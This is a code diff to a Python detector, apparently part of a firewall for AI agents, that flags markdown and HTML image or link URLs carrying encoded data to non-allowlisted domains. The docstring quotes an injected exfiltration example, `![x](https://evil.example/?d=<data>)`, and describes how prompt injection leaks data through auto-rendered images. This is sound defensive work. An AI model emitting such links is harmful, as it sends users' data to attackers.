@@ -1,6 +1,8 @@
 """Markdown image and link exfiltration: an image the agent's UI renders fetches its URL with no
 click, so an injected `![x](https://evil.example/?d=<data>)` leaks data. Flagged: images to any
-domain not allowlisted, and links whose URL carries a data-like payload to such a domain."""
+domain not allowlisted, and links whose URL carries an encoded payload (a long token of letters
+and digits, or %-escapes: base64, an escaped query) to such a domain. A deep link of words, a
+commit hash or a short token (a password-reset link's) is ordinary text."""
 
 from __future__ import annotations
 
@@ -12,7 +14,24 @@ from firewall.detect.base import Detection, Segment
 
 _MARKDOWN = re.compile(r"(!?)\[[^\]\n]{0,500}\]\(\s*<?(https?://[^\s)>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
 _HTML_IMAGE = re.compile(r"<img\b[^>]*\bsrc\s*=\s*[\"']?(https?://[^\s\"'>]+)", re.IGNORECASE)
-_PAYLOAD = re.compile(r"[?#&=/][A-Za-z0-9+/_%=\-.]{24,}")
+# One path segment, query value or fragment of 24 or more characters: a candidate payload. A deep
+# path of words (/en/latest/reference/config.html, /auth/password-reset/) is not one, nor a slug.
+# A commit hash or a UUID is an identifier, not a payload.
+_TOKEN = re.compile(r"(?<=[?#&=/])[A-Za-z0-9+_%=.\-]{24,}")
+_SLUG = re.compile(r"[A-Za-z]+(?:[-_.][A-Za-z]+)*")
+_IDENTIFIER = re.compile(r"[0-9a-fA-F]+|[0-9a-fA-F]{8}(?:-[0-9a-fA-F]{4}){3}-[0-9a-fA-F]{12}")
+
+
+def _carries_data(url: str) -> bool:
+    """Whether a URL holds an encoded payload: a long token with %-escapes, or digits among its
+    letters (base64, an escaped query), that is neither a slug of words nor a hash or UUID."""
+    rest = url.split("://", 1)[-1]
+    for token in _TOKEN.findall(rest):
+        if _SLUG.fullmatch(token) or _IDENTIFIER.fullmatch(token):
+            continue
+        if "%" in token or (any(c.isdigit() for c in token) and any(c.isalpha() for c in token)):
+            return True
+    return False
 
 
 class ExfilLinkDetector:
@@ -48,7 +67,7 @@ class ExfilLinkDetector:
                             action="redact",
                         )
                     )
-                elif _PAYLOAD.search(url.split("://", 1)[1]):
+                elif _carries_data(url):
                     found.append(
                         Detection(
                             self.name,
